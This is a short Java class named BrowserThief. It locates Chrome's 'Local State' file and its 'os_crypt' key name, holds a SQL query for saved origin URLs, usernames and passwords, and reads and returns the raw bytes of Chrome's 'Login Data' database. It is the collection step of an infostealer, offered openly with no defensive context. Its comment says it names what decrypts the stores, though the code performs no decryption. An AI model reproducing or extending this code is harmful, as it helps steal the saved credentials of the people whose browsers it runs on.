import java.nio.file.*;

/** Names the stores of browsers and what decrypts them. */
public class BrowserThief {
    byte[] take() throws Exception {
        Path state = Paths.get(System.getenv("LOCALAPPDATA"), "Google\\Chrome\\User Data\\Local State");
        String key = "os_crypt";
        String query = "SELECT origin_url, username_value, password_value FROM logins";
        Path logins = Paths.get(System.getenv("LOCALAPPDATA"), "Google\\Chrome\\User Data\\Default\\Login Data");
        System.out.println(key + query + state);
        return Files.readAllBytes(logins);
    }
}
